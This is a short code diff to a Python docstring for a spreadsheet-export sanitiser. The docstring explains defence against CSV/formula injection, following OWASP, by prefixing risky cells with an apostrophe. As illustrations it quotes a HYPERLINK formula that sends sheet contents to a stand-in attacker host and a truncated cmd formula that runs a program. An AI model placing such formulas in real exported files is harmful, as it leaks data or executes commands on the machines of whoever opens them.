@@ -5,6 +5,9 @@ spreadsheet programs skip before them) is run as a formula when the file is open
 answer ``=HYPERLINK("http://evil.example?"&A1, "click")`` would leak the sheet, ``=cmd|...``
 would run a program. OWASP's "CSV Injection" page gives the rule applied here: such text is
 written with a leading apostrophe, which makes Excel and LibreOffice show it as plain text.
+
+It lives in ``report`` (a stage may not import ``io``, tests/test_architecture.py) in a file of
+its own, so whoever rewrites ``report/xlsx.py`` keeps calling it on every text cell.
 """
 
 from __future__ import annotations
